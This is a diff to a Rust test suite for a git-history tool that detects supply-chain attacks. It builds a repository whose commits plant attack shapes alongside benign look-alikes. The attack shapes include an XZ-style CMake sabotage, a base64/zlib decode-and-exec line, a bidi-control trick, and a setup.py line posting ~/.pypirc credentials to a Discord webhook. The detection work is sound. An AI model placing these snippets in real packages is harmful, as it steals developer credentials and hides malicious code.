@@ -1,20 +1,15 @@
-//! Content-based signals end to end: commits made with real `git`, mined (diff hunks, content
-//! scan), then judged by the rules. Each attack shape has a benign look-alike that must stay
+//! Content-based signals end to end: commits made with real `git` from a commit script, mined
+//! (diff hunks, content scan), then judged by the rules. Each attack shape has a benign look-alike that must stay
 //! quiet (no evidence from the rule, or only routine-weight evidence).
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]
 
 mod common;
 
-use common::*;
+use common::change_evidence;
 use garrison_history::rules::Evidence;
 use garrison_history::{AnalyzeOptions, History, MineOptions, analyze, mine};
 use garrison_report::Severity;
-
-const START: i64 = 1_600_000_000;
-const MAINTAINER: Who = Who {
-    name: "Mara Maintainer",
-    email: "mara@example.org",
-};
+use garrison_test::git::Built;
 
 /// The strongest evidence of `rule` (weight), if any.
 fn weight(ev: &[Evidence], rule: &str) -> f64 {
@@ -31,157 +26,152 @@ fn strongest<'a>(ev: &'a [Evidence], rule: &str) -> &'a Evidence {
         .unwrap_or_else(|| panic!("no {rule} evidence in {ev:#?}"))
 }
 
-const CMAKE: &str = r#"cmake_minimum_required(VERSION 3.14)
-project(xzlike C)
-include(CheckCSourceCompiles)
-check_c_source_compiles("
-    #include <sys/prctl.h>
-    #include <linux/landlock.h>
-    #include <sys/syscall.h>
-    void my_sandbox(void)
-    {
-        (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
-        (void)SYS_landlock_create_ruleset;
-    }
-    int main(void) { return 0; }
-    "
-    HAVE_LINUX_LANDLOCK)
-set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS} -fstack-protector-strong -D_FORTIFY_SOURCE=2")
-add_library(xzlike src/lib.c)
+/// One repository, one commit per scenario (a day apart), attack shapes first, then benign
+/// look-alikes. `<RLO>`, `<LRI>` and `<PDI>` stand for the bidi controls U+202E, U+2066, U+2069.
+const SCRIPT: &str = r#"
+person mara = Mara Maintainer <mara@example.org>
+author mara
+date 2020-09-14T12:26:40Z
+commit [root] initial import
+  write CMakeLists.txt
+  | cmake_minimum_required(VERSION 3.14)
+  | project(xzlike C)
+  | include(CheckCSourceCompiles)
+  | check_c_source_compiles("
+  |     #include <sys/prctl.h>
+  |     #include <linux/landlock.h>
+  |     #include <sys/syscall.h>
+  |     void my_sandbox(void)
+  |     {
+  |         (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
+  |         (void)SYS_landlock_create_ruleset;
+  |     }
+  |     int main(void) { return 0; }
+  |     "
+  |     HAVE_LINUX_LANDLOCK)
+  | set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS} -fstack-protector-strong -D_FORTIFY_SOURCE=2")
+  | add_library(xzlike src/lib.c)
+  write src/lib.c
+  | int f(void) { return 1; }
+  write setup.py
+  | from setuptools import setup
+  | setup(name='pkg')
+  write pkg/__init__.py
+  | VERSION = '1.0'
+  write .gitignore
+  | *.pyc
+  write SECURITY.md
+  | # Security
+  |
+  | Report vulnerabilities privately to security@example.org.
+  | We answer within 7 days.
+  write requirements.txt
+  | numpy==2.0.0
+
+# --- attack shapes ---
+date +1d
+commit [ignore_m4] Build: ignore generated files
+  append .gitignore
+  | build-to-host.m4
+  | m4/*.m4
+date +1d
+commit [stray_dot] CMake: fix the Landlock check
+  replace CMakeLists.txt
+  -     void my_sandbox(void)
+  + .
+  +     void my_sandbox(void)
+date +1d
+commit [decode_exec] setup: tidy
+  append setup.py
+  | import base64, zlib
+  | exec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))
+date +1d
+commit [bidi] core: access check
+  write pkg/access.py
+  | def is_admin(level):
+  |     return level == "user<RLO> <LRI># admin only<PDI> <LRI>"
+date +1d
+commit [constructor] lib: init tables early
+  append src/lib.c
+  | static void __attribute__((constructor)) init_tables(void) { }
+date +1d
+commit [exfil] setup: report install stats
+  append setup.py
+  | import os, requests
+  | requests.post('https://discord.com/api/webhooks/123/abc', data=open(os.path.expanduser('~/.pypirc')).read())
+date +1d
+commit [contact] SECURITY: new contact
+  replace SECURITY.md
+  - Report vulnerabilities privately to security@example.org.
+  + Report vulnerabilities privately to jt.helper@example.net.
+date +1d
+commit [export_ignore] attributes: smaller tarballs
+  write .gitattributes
+  | *.m4 export-ignore
+date +1d
+commit [hardening] CMake: simplify flags
+  replace CMakeLists.txt
+  - set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS} -fstack-protector-strong -D_FORTIFY_SOURCE=2")
+  + set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS}")
+
+# --- benign look-alikes ---
+date +1d
+commit [ignore_routine] gitignore: build outputs
+  append .gitignore
+  | build/
+  | dist/
+  | *.egg-info
+  | __pycache__/
+date +1d
+commit [eval_lookalike] core: evaluation helpers
+  write pkg/evaluate.py
+  | import ast
+  |
+  | def run(model, s):
+  |     model.eval()
+  |     return ast.literal_eval(s)
+date +1d
+commit [git_describe] setup: version from git
+  append setup.py
+  | import subprocess
+  | VERSION = subprocess.run(['git', 'describe', '--tags'], capture_output=True, text=True).stdout
+date +1d
+commit [hashes] requirements: hashes
+  write requirements.txt
+  | numpy==2.0.0 \
+  |     --hash=sha256:9a5f0a1e8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e
+date +1d
+commit [cmake_unrelated] CMake: add a source
+  append CMakeLists.txt
+  | target_sources(xzlike PRIVATE src/extra.c)
+date +1d
+commit [policy_grows] SECURITY: supported versions
+  append SECURITY.md
+  |
+  | ## Supported versions
+  |
+  | The latest minor release.
 "#;
 
-/// One repository, one commit per scenario; returns (history, ids by label).
-fn build() -> (
-    Repo,
-    History,
-    std::collections::BTreeMap<&'static str, String>,
-) {
-    let r = Repo::new();
-    let mut ids = std::collections::BTreeMap::new();
-    let mut t = START;
-    let mut next = || {
-        t += DAY;
-        utc(t)
-    };
-    r.write("CMakeLists.txt", CMAKE);
-    r.write("src/lib.c", "int f(void) { return 1; }\n");
-    r.write(
-        "setup.py",
-        "from setuptools import setup\nsetup(name='pkg')\n",
-    );
-    r.write("pkg/__init__.py", "VERSION = '1.0'\n");
-    r.write(".gitignore", "*.pyc\n");
-    r.write(
-        "SECURITY.md",
-        "# Security\n\nReport vulnerabilities privately to security@example.org.\nWe answer within 7 days.\n",
-    );
-    r.write("requirements.txt", "numpy==2.0.0\n");
-    ids.insert("root", r.commit("initial import", MAINTAINER, next()));
-
-    let mut step = |label: &'static str, msg: &str, f: &dyn Fn(&Repo)| {
-        f(&r);
-        let id = r.commit(msg, MAINTAINER, next());
-        ids.insert(label, id);
-    };
-
-    // --- attack shapes ---
-    step("ignore_m4", "Build: ignore generated files", &|r| {
-        r.append(".gitignore", "build-to-host.m4\nm4/*.m4\n")
-    });
-    step("stray_dot", "CMake: fix the Landlock check", &|r| {
-        r.write(
-            "CMakeLists.txt",
-            CMAKE.replace("    void my_sandbox(void)", ".\n    void my_sandbox(void)"),
-        )
-    });
-    step("decode_exec", "setup: tidy", &|r| {
-        r.append(
-            "setup.py",
-            "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n",
-        )
-    });
-    step("bidi", "core: access check", &|r| {
-        r.write(
-            "pkg/access.py",
-            "def is_admin(level):\n    return level == \"user\u{202E} \u{2066}# admin only\u{2069} \u{2066}\"\n",
-        )
-    });
-    step("constructor", "lib: init tables early", &|r| {
-        r.append(
-            "src/lib.c",
-            "static void __attribute__((constructor)) init_tables(void) { }\n",
-        )
-    });
-    step("exfil", "setup: report install stats", &|r| {
-        r.append(
-            "setup.py",
-            "import os, requests\nrequests.post('https://discord.com/api/webhooks/123/abc', data=open(os.path.expanduser('~/.pypirc')).read())\n",
-        )
-    });
-    step("contact", "SECURITY: new contact", &|r| {
-        r.write(
-            "SECURITY.md",
-            "# Security\n\nReport vulnerabilities privately to jt.helper@example.net.\nWe answer within 7 days.\n",
-        )
-    });
-    step("export_ignore", "attributes: smaller tarballs", &|r| {
-        r.write(".gitattributes", "*.m4 export-ignore\n")
-    });
-    step("hardening", "CMake: simplify flags", &|r| {
-        let now = std::fs::read_to_string(r.path().join("CMakeLists.txt")).unwrap();
-        r.write(
-            "CMakeLists.txt",
-            now.replace(" -fstack-protector-strong -D_FORTIFY_SOURCE=2", ""),
-        )
-    });
-
-    // --- benign look-alikes ---
-    step("ignore_routine", "gitignore: build outputs", &|r| {
-        r.append(".gitignore", "build/\ndist/\n*.egg-info\n__pycache__/\n")
-    });
-    step("eval_lookalike", "core: evaluation helpers", &|r| {
-        r.write(
-            "pkg/evaluate.py",
-            "import ast\n\ndef run(model, s):\n    model.eval()\n    return ast.literal_eval(s)\n",
-        )
-    });
-    step("git_describe", "setup: version from git", &|r| {
-        r.append(
-            "setup.py",
-            "import subprocess\nVERSION = subprocess.run(['git', 'describe', '--tags'], capture_output=True, text=True).stdout\n",
-        )
-    });
-    step("hashes", "requirements: hashes", &|r| {
-        r.write(
-            "requirements.txt",
-            "numpy==2.0.0 \\\n    --hash=sha256:9a5f0a1e8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e\n",
-        )
-    });
-    step("cmake_unrelated", "CMake: add a source", &|r| {
-        r.append(
-            "CMakeLists.txt",
-            "target_sources(xzlike PRIVATE src/extra.c)\n",
-        )
-    });
-    step("policy_grows", "SECURITY: supported versions", &|r| {
-        r.append(
-            "SECURITY.md",
-            "\n## Supported versions\n\nThe latest minor release.\n",
-        )
-    });
-    let h = mine(r.path(), &MineOptions::default()).unwrap();
+/// The repository of [`SCRIPT`], mined.
+fn build() -> (Built, History) {
+    let script = SCRIPT
+        .replace("<RLO>", "\u{202E}")
+        .replace("<LRI>", "\u{2066}")
+        .replace("<PDI>", "\u{2069}");
+    let b = garrison_test::git::build(&script);
+    let h = mine(b.path(), &MineOptions::default()).unwrap();
     assert!(h.warnings.is_empty(), "{:?}", h.warnings);
-    (r, h, ids)
+    (b, h)
 }
 
 #[test]
 fn attack_shapes_fire_and_look_alikes_stay_quiet() {
-    if !git_ok() {
-        eprintln!("git missing: skipped");
+    if !garrison_test::git::require_git() {
         return;
     }
-    let (_r, h, ids) = build();
-    let ev = |label: &str| change_evidence(&h, &ids[label]);
+    let (b, h) = build();
+    let ev = |label: &str| change_evidence(&h, b.id(label));
 
     // .gitignore hiding a build macro (the XZ trigger lived in such a file).
     let e = ev("ignore_m4");
@@ -275,7 +265,7 @@ fn attack_shapes_fire_and_look_alikes_stay_quiet() {
         let s = a
             .commits
             .iter()
-            .find(|c| c.id == ids[label])
+            .find(|c| c.id == b.id(label))
             .unwrap_or_else(|| panic!("{label} not reported"));
         assert!(s.severity >= Severity::Low, "{label}: {}", s.score);
     }
@@ -287,7 +277,7 @@ fn attack_shapes_fire_and_look_alikes_stay_quiet() {
         "cmake_unrelated",
         "policy_grows",
     ] {
-        let s = a.commits.iter().find(|c| c.id == ids[label]);
+        let s = a.commits.iter().find(|c| c.id == b.id(label));
         assert!(
             s.is_none_or(|s| s.severity == Severity::Info),
             "{label}: {:?}",
